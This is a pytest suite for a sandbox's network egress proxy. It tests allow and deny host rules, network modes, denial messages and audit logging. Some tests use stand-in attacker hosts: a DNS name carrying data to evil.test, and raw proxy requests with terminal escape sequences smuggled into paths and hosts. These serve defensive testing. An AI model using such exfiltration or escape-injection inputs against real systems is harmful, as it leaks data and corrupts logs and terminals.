"""The network as programs use it (P2, P10; F7, F44, F59): allowed and refused hosts, modes, audit and summary."""
import hashlib
import json
import os

import pytest

from harness.procs import descendants, wait_until
from harness.sbx import PYTHON
from lab.origin import pattern

EXAMPLE = os.path.join(os.path.dirname(__file__), "../../examples/fetch.py")

GET = """
import json, sys, urllib.request, urllib.error
answers = {}
for url in sys.argv[1:]:
    try:
        with urllib.request.urlopen(url, timeout=50) as answer:
            answers[url] = [answer.status, answer.read().decode("latin-1")]
    except urllib.error.HTTPError as error: answers[url] = [error.code, error.read().decode("latin-1")]
    except Exception as error: answers[url] = [0, str(error)]
print(json.dumps(answers))
"""


def get(sbx, url, *options, **more):
    """(status, body) of the URL fetched inside."""
    return tuple(sbx.python(GET, *options, arguments=[url], **more).json[url])


@pytest.fixture
def fetch(sbx, project):
    """sbx run ARGS -- python3 fetch.py URL, with the example as it is shipped."""
    with open(EXAMPLE) as file:
        project.write("fetch.py", file.read())
    return lambda url, *options: sbx.run(*options, "--", PYTHON, "fetch.py", url)


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_example_prints_the_page_of_an_allowed_host(fetch, scheme):
    result = fetch(f"{scheme}://origin.test/", "--allow", "origin.test").ok()
    assert result.out == "lab page of origin.test\n"
    assert result.messages == []


def test_example_is_refused_without_allow(fetch, lab):
    """P10: a 403 that names the host and the fix; the summary repeats it."""
    result = fetch("http://origin.test/")
    assert result.code == 1 and result.out == "", result
    assert "403" in result.err
    body = json.loads(next(line for line in result.err.splitlines() if line.startswith("{")))
    assert set(body) >= {"error", "host", "port", "reason", "rule", "fix"}, body
    assert body["host"] == "origin.test" and body["port"] == 80 and body["reason"] == "not-allowed", body
    assert "--allow origin.test" in body["fix"], body
    summary, = result.messages
    assert "origin.test" in summary and "not-allowed" in summary and "--allow origin.test" in summary, summary
    assert lab.connections == [] and not lab.dns.asked("origin.test")


def test_https_is_refused_without_allow(fetch, lab):
    result = fetch("https://origin.test/")
    assert result.code == 1 and "403" in result.err, result
    summary, = result.messages
    assert "origin.test:443" in summary and "--allow origin.test" in summary, summary
    assert lab.connections == []


def test_first_request_is_not_refused(sbx):
    """F44: the listeners are there before the command: the very first call of a fast program is served."""
    for _ in range(10):
        result = sbx.run("--allow", "origin.test", "--", "curl", "-sS", "http://origin.test/").ok()
        assert result.out == "lab page of origin.test\n"


def test_denials_are_counted_and_listed_once(sbx):
    """P10: one line per distinct denial with its count."""
    urls = ["http://evil.test/a", "http://evil.test/b", "http://evil.test/c", "http://other.test/"]
    messages = sbx.python(GET, arguments=urls).messages
    assert len(messages) == 2, messages
    assert "3x" in messages[0] and "evil.test" in messages[0], messages
    assert "other.test" in messages[1], messages


def test_proxy_variables_in_every_spelling(sbx):
    shown = sbx.python("import os, json; print(json.dumps(dict(os.environ)))").json
    for name in ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"):
        assert shown[name] == "http://127.0.0.1:3128", shown
    for name in ("no_proxy", "NO_PROXY"):
        for part in ("10.", "192.168", "172.16", ".local", "*"):  # F51
            assert part not in shown.get(name, ""), shown


def test_callers_proxy_variables_do_not_come_in(sbx):
    caller = {name: "http://proxy.corp.test:8080" for name in ("http_proxy", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY")}
    shown = sbx.python("import os, json; print(json.dumps(dict(os.environ)))", env={**caller, "no_proxy": "*"}).json
    assert "corp" not in json.dumps(shown) and shown.get("no_proxy") != "*", shown


@pytest.mark.parametrize("rule, url, allowed", [
    ("origin.test", "http://origin.test/", True),
    ("origin.test", "http://origin.test:8080/", False),
    ("origin.test:8080", "http://origin.test:8080/", True),
    ("origin.test:8080", "http://origin.test/", False),
    ("origin.test:8000-9000", "http://origin.test:8080/", True),
    ("origin.test:*", "http://origin.test:8080/", True),
    ("ORIGIN.test.", "http://origin.test/", True),
    ("origin.test", "http://ORIGIN.TEST/", True),
    ("origin.test", "http://origin.test./", True),
    ("origin.test", "http://www.origin.test/", False),
    ("origin.test", "http://evilorigin.test/", False),
    ("*.wild.test", "http://a.wild.test/", True),
    ("*.wild.test", "http://a.b.wild.test/", True),
    ("*.wild.test", "http://wild.test/", False),
    ("*.origin.test", "http://evilorigin.test/", False),
    ("*", "http://evil.test/", True),
    ("192.0.2.0/24", "http://192.0.2.77/", True),
    ("192.0.2.0/24", "http://198.51.100.1/", False),
    ("192.0.2.0/24", "http://origin.test/", False),
    ("2001:db8::/32", "http://[2001:db8::5]/", True),
    ("[2001:db8::5]:8080", "http://[2001:db8::5]:8080/", True),
    ("v6only.test", "http://v6only.test/", True),
    ("hostsfile.test", "http://hostsfile.test/", True),
    ("alias.test", "http://alias.test/", True),
    ("truncated.test", "http://truncated.test/", True),
])
def test_rules(sbx, rule, url, allowed):
    """P10, F53, F59"""
    status, body = get(sbx, url, "--allow", rule)
    assert status == (200 if allowed else 403), body


@pytest.mark.parametrize("deny, url", [
    ("evil.test", "http://evil.test/"), ("evil.test", "http://EVIL.test./"), ("*.evil.test", "http://sub.evil.test/"),
    ("evil.test:80", "http://evil.test/"), ("198.51.100.66", "http://evil.test/"),
    ("198.51.100.0/24", "http://198.51.100.9/"),
    ("evil.test:*", "http://evil.test:8080/"), ("evil.test", "http://evil.test:8080/"),
    ("198.51.100.66", "http://evil.test:8080/"),
])
def test_deny_wins(sbx, lab, deny, url):
    """P11, F53: wherever it stands; an address rule also against a name that leads there."""
    status, body = get(sbx, url, "--allow", "*:*", "--deny", deny)
    assert status == 403 and json.loads(body)["reason"] == "deny-rule", body
    assert lab.connections == []


def test_empty_allow_list_allows_nothing(sbx, project, lab):
    """F59, P11"""
    policy = project.policy("../../policy.json", network={"allow": []})
    assert get(sbx, "http://origin.test/", "--policy", policy)[0] == 403
    assert lab.connections == []


def test_names_that_were_denied_are_not_resolved(sbx, lab):
    """A question to a name server carries data out (P2)."""
    get(sbx, "http://secret-in-a-name.evil.test/", "--allow", "origin.test")
    assert lab.dns.queries == []


def test_hosts_file_is_honoured(sbx, lab):
    get(sbx, "http://hostsfile.test/", "--allow", "hostsfile.test")
    assert [r.address for r in lab.requests] == ["192.0.2.20"]


@pytest.mark.parametrize("name, word", [
    ("no-such-name.test", "resolve-failed"), ("servfail.test", "resolve-failed"),
])
def test_failures_are_told(sbx, name, word):
    """P10: what cannot be reached is told apart from what is not allowed."""
    status, body = get(sbx, f"http://{name}/", "--allow", name)
    assert status in (502, 503, 504) and word in body, body


def test_refused_connection_is_told(sbx):
    status, body = get(sbx, "http://refused.test:81/", "--allow", "refused.test:81")
    assert status in (502, 503) and "connect-refused" in body, body


def test_large_answers_and_bodies_arrive_whole(sbx):
    """F57"""
    code = """
import hashlib, sys, urllib.request as r
for path in ("large", "chunked", "close"):
    print(path, hashlib.sha256(r.urlopen(f"http://origin.test/{path}/3000000").read()).hexdigest())
body = bytes(range(256)) * 12000
print(r.urlopen(r.Request("http://origin.test/post", data=body)).read().decode(), hashlib.sha256(body).hexdigest())
"""
    result = sbx.python(code, "--allow", "origin.test").ok()
    words = result.out.split()
    assert words[1] == words[3] == words[5] == hashlib.sha256(pattern(3000000)).hexdigest(), result
    assert words[6] == "3072000" and words[7] == words[8], result


def test_https_large_answer_through_the_tunnel(sbx):
    code = """
import hashlib, urllib.request as r
print(hashlib.sha256(r.urlopen("https://origin.test/large/3000000").read()).hexdigest())
"""
    result = sbx.python(code, "--allow", "origin.test").ok()
    assert result.out.strip() == hashlib.sha256(pattern(3000000)).hexdigest()


def test_many_requests_at_once(sbx):
    code = """
import threading, urllib.request as r
results = []
def one(n): results.append(len(r.urlopen(f"http://origin.test/large/{n * 1000}").read()) == n * 1000)
threads = [threading.Thread(target=one, args=(n,)) for n in range(100)]
[t.start() for t in threads]; [t.join() for t in threads]
print(results.count(True))
"""
    assert sbx.python(code, "--allow", "origin.test").ok().out == "100\n"


def test_network_none(sbx, lab):
    """P2: no proxy, no way; refused at once."""
    code = """
import socket, os
for address in (("127.0.0.1", 3128), ("192.0.2.10", 80)):
    try: socket.create_connection(address, 30); print("connected")
    except OSError as error: print(error.strerror)
print([n for n in os.environ if n.lower().endswith("_proxy")])
"""
    result = sbx.python(code, "--network", "none").ok()
    assert "connected" not in result.out and result.out.splitlines()[-1] == "[]", result
    assert lab.connections == []


def test_network_none_with_allow_is_no_network(sbx, lab):
    """F7: what cannot both be is either refused or the narrower."""
    result = sbx.shell("curl -s http://origin.test/", "--network", "none", "--allow", "origin.test",
                       may_refuse=True)
    assert result.code != 0 and "lab page" not in result.out, result
    assert lab.connections == []


def test_network_host(sbx):
    """Only when asked for by the user."""
    result = sbx.shell("unset http_proxy; curl -sS http://192.0.2.10/ && curl -sS http://origin.test/",
                       "--network", "host").ok()
    assert result.out.count("lab page") == 2, result


def test_network_host_is_never_the_workspaces_choice(sbx, project, lab):
    """P11, F7: not even when trusted."""
    project.policy(network={"mode": "host"})
    sbx("trust")
    result = sbx.shell("unset http_proxy; curl -sS --max-time 20 http://192.0.2.10/")
    assert "lab page" not in result.out, result
    assert lab.connections == []


def test_forwarded_localhost_is_named_localhost(sbx, lab):
    """A rule for localhost leads to the host's loopback, and nothing else does."""
    assert get(sbx, "http://localhost:8080/", "--allow", "localhost:8080", env={"no_proxy": ""})[0] in (200, 0, 403)
    assert get(sbx, "http://127.0.0.1:8080/")[0] != 200
    assert all(address in ("127.0.0.1", "::1") for _, address, _ in lab.connections)


def test_audit_file(sbx, project):
    """P10: JSON lines that hold what DESIGN 10 names, without the query."""
    path = project.home + "/audit.jsonl"
    sbx.python(GET, "--allow", "origin.test", "--audit", path,
               arguments=["http://origin.test/large/5000?token=hunter2", "http://evil.test/x?y=hunter2",
                          "https://origin.test/"])
    with open(path) as file:
        text = file.read()
    lines = [json.loads(line) for line in text.splitlines()]
    assert "hunter2" not in text
    allowed = [line for line in lines if line.get("host") == "origin.test" and line.get("port") == 80]
    denied = [line for line in lines if line.get("host") == "evil.test"]
    tunnel = [line for line in lines if line.get("port") == 443]
    assert allowed and denied and tunnel, text
    assert denied[0]["verdict"] == "deny" and denied[0]["reason"] == "not-allowed", denied
    final = allowed[-1]
    assert final["verdict"] == "allow" and final["ip"] in ("192.0.2.10", "2001:db8::10"), final
    assert final["method"] == "GET", final
    assert final["path"] == "/large/5000", final
    assert len({line["run"] for line in lines}) == 1 and all("time" in line for line in lines), text


def test_audit_to_a_descriptor(sbx):
    read, write = os.pipe()
    try:
        sbx.python(GET, "--audit", f"fd:{write}", arguments=["http://evil.test/"], pass_fds=(write,)).ok()
    finally:
        os.close(write)
    with os.fdopen(read) as file:
        lines = [json.loads(line) for line in file]
    assert any(line.get("host") == "evil.test" for line in lines), lines


def test_audit_that_cannot_be_written_is_refused(sbx, project):
    """P1"""
    sbx.run("--audit", "/no/such/directory/audit", "--", "true").refused("/no/such/directory/audit")


def test_audit_escapes_what_comes_from_inside(sbx, project):
    """Escape sequences in paths and methods reach neither the audit nor the terminal raw."""
    path = project.home + "/audit.jsonl"
    code = r"""
import os, socket, urllib.parse
p = urllib.parse.urlsplit(os.environ["http_proxy"])
for request in (b"GET http://evil.test/\x1b]0;title\x07 HTTP/1.1\r\nHost: evil.test\r\n\r\n",
                b"CONNECT evil\x1b[31m.test:443 HTTP/1.1\r\n\r\n",
                b"GET http://evil.test/%1b[31m HTTP/1.1\r\nHost: evil.test\r\n\r\n"):
    s = socket.create_connection((p.hostname, p.port)); s.sendall(request); s.recv(9999); s.close()
"""
    result = sbx.python(code, "--audit", path)
    with open(path, "rb") as file:
        assert b"\x1b" not in file.read() + result.err.encode()


def test_default_audit_is_kept_in_the_state_directory(sbx, project):
    sbx.python(GET, arguments=["http://evil.test/"]).ok()
    texts = []
    for directory, _, names in os.walk(project.state):
        for name in names:
            with open(os.path.join(directory, name), errors="replace") as file:
                texts.append(file.read())
    assert any("evil.test" in text and "not-allowed" in text for text in texts), texts


def test_proxy_starts_only_when_needed(sbx):
    """A run that needs no network pays nothing for it."""
    process = sbx.start("run", "--", "sh", "-c", "echo ready; exec sleep 1000")
    assert process.stdout.readline() == b"ready\n"
    wait_until(lambda: any(p.name == "sleep" for p in descendants(process.pid)), "the command runs")
    names = [p.name for p in descendants(process.pid)]
    process.kill()
    process.communicate()
    assert "sbx-proxy" not in names, names
